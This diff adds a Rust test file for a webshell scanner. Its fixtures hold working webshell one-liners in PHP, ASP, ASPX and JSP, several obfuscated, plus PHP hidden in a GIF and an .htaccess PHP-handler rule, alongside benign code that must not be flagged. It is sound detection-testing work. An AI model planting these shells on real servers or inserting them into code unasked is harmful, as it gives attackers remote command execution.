@@ -1,0 +1,161 @@
+//! Webshell fixtures: minimal synthetic one-liners that exhibit each pattern (and obfuscated
+//! variants), and ordinary code that must stay clean.
+
+mod common;
+
+use common::scanner;
+use lexguard_sitescan::{Finding, Kind};
+
+fn shells(name: &str, content: &[u8]) -> Vec<Finding> {
+    scanner().scan_bytes(name, content).into_iter().filter(|f| f.kind == Kind::Webshell).collect()
+}
+
+fn high(name: &str, content: &[u8]) -> Vec<Finding> {
+    shells(name, content).into_iter().filter(|f| f.category.as_deref() == Some("backdoor")).collect()
+}
+
+#[test]
+fn php_one_liners_and_variants() {
+    let cases: &[(&str, &str)] = &[
+        ("php.eval-request", r#"<?php @eval($_POST['pass']);?>"#),
+        ("php.eval-request", r#"<?php eval/*x*/ ( $_REQUEST [ 'a' ] ) ; ?>"#),
+        ("php.eval-request", r#"<?php assert(stripslashes($_GET["x"])); ?>"#),
+        ("php.eval-request", r#"<?php $c = $_COOKIE['k']; $d = $c; eval($d); ?>"#),
+        ("php.eval-request", r#"<?php eval(${"_PO"."ST"}['z']); eval(${'_POST'}['z']); ?>"#),
+        ("php.exec-request", r#"<?php system($_GET['cmd']); ?>"#),
+        ("php.exec-request", r#"<?php $x = $_POST['c']; echo shell_exec('cd /tmp;' . $x); ?>"#),
+        ("php.exec-request", r#"<?php passthru(base64_decode($_REQUEST['c'])); ?>"#),
+        ("php.backtick-request", "<?php echo `$_GET[c]`; ?>"),
+        ("php.create-function-request", r#"<?php $f = create_function('', $_POST['code']); $f(); ?>"#),
+        ("php.eval-decode-chain", r#"<?php eval(gzinflate(base64_decode('S0ktLlGyUlAqSS0uUbIGAA=='))); ?>"#),
+        ("php.eval-decode-chain", r#"<?php eval(str_rot13('riny($_CBFG[1]);')); ?>"#),
+        ("php.preg-replace-e", r#"<?php preg_replace("/.*/e", $_POST['code'], ''); ?>"#),
+        ("php.callback-request", r#"<?php array_map('assert', (array)$_REQUEST['a']); ?>"#),
+        ("php.callback-request", r#"<?php call_user_func($_GET['f'], $_GET['a']); ?>"#),
+        ("php.callback-request", r#"<?php register_shutdown_function($_POST['f'], 'x'); ?>"#),
+        ("php.variable-function-request", r#"<?php $_GET['f']($_GET['a']); ?>"#),
+        ("php.assembled-call", r#"<?php $f = 'as'.'se'.'rt'; $f($_POST['x']); ?>"#),
+        ("php.assembled-call", r#"<?php $f = str_rot13('flfgrz'); $f($_GET['c']); ?>"#),
+        ("php.assembled-call", r#"<?php $f = "\x73\x79\x73\x74\x65\x6d"; $f($_REQUEST['c']); ?>"#),
+        ("php.include-request", r#"<?php include($_GET['page']); ?>"#),
+    ];
+    for (rule, code) in cases {
+        let f = high("shell.php", code.as_bytes());
+        assert!(f.iter().any(|f| f.rule == format!("webshell:{rule}")), "{rule} not found in {code}: {f:#?}");
+        assert!(f.iter().all(|f| f.severity >= 4 && f.line == Some(1)));
+    }
+}
+
+#[test]
+fn asp_aspx_jsp_one_liners() {
+    let cases: &[(&str, &str, &str)] = &[
+        ("a.asp", "asp.eval-request", r#"<%eval request("pass")%>"#),
+        ("a.asp", "asp.eval-request", r#"<% Execute(Request.Form("c")) %>"#),
+        ("a.asp", "asp.eval-request", r#"<% ExecuteGlobal request.item("c") %>"#),
+        ("a.aspx", "aspx.eval-request", r#"<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>"#),
+        (
+            "a.aspx",
+            "aspx.assembly-load-base64",
+            r#"<%@ Page Language="C#" %><% System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["k"])).CreateInstance("U").Equals(this); %>"#,
+        ),
+        (
+            "a.aspx",
+            "aspx.process-request",
+            r#"<% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>"#,
+        ),
+        ("a.jsp", "jsp.exec-request", r#"<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>"#),
+        (
+            "a.jsp",
+            "jsp.exec-request",
+            r#"<% String c = request.getParameter("c"); new ProcessBuilder(request.getParameter("c")).start(); %>"#,
+        ),
+        (
+            "a.jsp",
+            "jsp.defineclass-base64",
+            r#"<%! class U extends ClassLoader { Class g(byte[] b) { return super.defineClass(b, 0, b.length); } } %><% new U().g(java.util.Base64.getDecoder().decode(request.getReader().readLine())); %>"#,
+        ),
+    ];
+    for (name, rule, code) in cases {
+        let f = high(name, code.as_bytes());
+        assert!(f.iter().any(|f| f.rule == format!("webshell:{rule}")), "{rule} not found: {f:#?}");
+    }
+}
+
+#[test]
+fn php_inside_an_image() {
+    let mut gif = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04".to_vec();
+    gif.extend_from_slice(b"<?php @eval($_POST['x']); ?>");
+    let f = high("logo.gif", &gif);
+    assert!(f.iter().any(|f| f.rule == "webshell:image.php-code"), "{f:#?}");
+    // Named .jpg but any image magic counts; a plain image stays clean.
+    assert!(high("logo.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR").is_empty());
+    let f = high(".htaccess", b"AddType application/x-httpd-php .jpg\n");
+    assert!(f.iter().any(|f| f.rule == "webshell:htaccess.php-handler"), "{f:#?}");
+}
+
+#[test]
+fn review_tier() {
+    let kit = r#"<?php
+        if (isset($_POST['go'])) {
+            echo php_uname();
+            move_uploaded_file($_FILES['f']['tmp_name'], $_POST['to']);
+            $s = fsockopen($_POST['h'], 80);
+            echo system('id');
+        }
+    ?>"#;
+    let f = shells("kit.php", kit.as_bytes());
+    let cap = f.iter().find(|f| f.rule == "webshell:php.capabilities").expect("capabilities");
+    assert_eq!(cap.category.as_deref(), Some("suspicious"));
+    assert!(cap.severity <= 3);
+    let mut blob = String::from("<?php $d = '");
+    let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut x: u32 = 12345;
+    for _ in 0..3000 {
+        x = x.wrapping_mul(1103515245).wrapping_add(12345);
+        blob.push(alphabet[(x >> 16) as usize % 64] as char);
+    }
+    blob.push_str("'; $k = strrev($d); ?>");
+    let f = shells("blob.php", blob.as_bytes());
+    assert!(
+        f.iter().any(|f| f.rule == "webshell:code.high-entropy" && f.category.as_deref() == Some("obfuscated")),
+        "{f:#?}"
+    );
+}
+
+#[test]
+fn ordinary_php_stays_clean() {
+    let cases: &[(&str, &str)] = &[
+        ("login.php", r#"<?php
+session_start();
+$user = isset($_POST['user']) ? trim($_POST['user']) : '';
+$stmt = $pdo->prepare('SELECT id, hash FROM users WHERE name = ?');
+$stmt->execute([$user]);
+$row = $stmt->fetch();
+if ($row && password_verify($_POST['pass'], $row['hash'])) { $_SESSION['uid'] = $row['id']; header('Location: /'); exit; }
+?><form method="post"><input name="user"><input type="password" name="pass"><button>登录</button></form>"#),
+        ("template.php", r#"<!DOCTYPE html><html><head><title><?php echo htmlspecialchars($title); ?></title></head>
+<body class="<?php body_class(); ?>"><?php foreach ($posts as $p): ?><h2><a href="<?= $p->url ?>"><?= esc_html($p->title) ?></a></h2><?php endforeach; ?>
+<?php include __DIR__ . '/footer.php'; ?></body></html>"#),
+        ("image.php", r#"<?php
+$w = (int) $_GET['w'];
+$src = imagecreatefromjpeg('photos/' . basename($_GET['f']));
+$dst = imagescale($src, max(16, min($w, 1024)));
+header('Content-Type: image/jpeg');
+imagejpeg($dst);
+?>"#),
+        ("backup.php", r#"<?php
+$file = escapeshellarg($_POST['name']);
+exec('tar czf /backups/' . $file . '.tgz /var/www/uploads', $out, $rc);
+$dir = escapeshellarg($_GET['d']);
+system("ls -l $dir");
+?>"#),
+        ("db.php", r#"<?php $db->exec("DELETE FROM cache WHERE k = " . $db->quote($_GET['k'])); $r = array_map('intval', $_POST['ids']); usort($items, function ($a, $b) { return $a['n'] <=> $b['n']; }); ?>"#),
+        ("cb.php", r#"<?php $handlers = ['a' => 'on_a']; call_user_func($handlers[$name], $_POST); array_filter($_POST['tags'], 'is_string'); ?>"#),
+        ("icons.php", &format!("<?php $icon = 'data:image/svg+xml;base64,{}'; ?>", "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHZpZXdCb3g9IjAgMCAyMCAyMCI+PHBhdGggZmlsbD0iYmxhY2siIGQ9Ik0xMCAyYTggOCAwIDEgMCAwIDE2IDggOCAwIDAgMCAwLTE2eiIvPjwvc3ZnPg==".repeat(8))),
+        ("comment.php", "<?php /* run: eval($_POST[x]) is what attackers do */ echo 'ok'; ?>"),
+    ];
+    for (name, code) in cases {
+        let f = high(name, code.as_bytes());
+        assert!(f.is_empty(), "{name}: {f:#?}");
+    }
+}
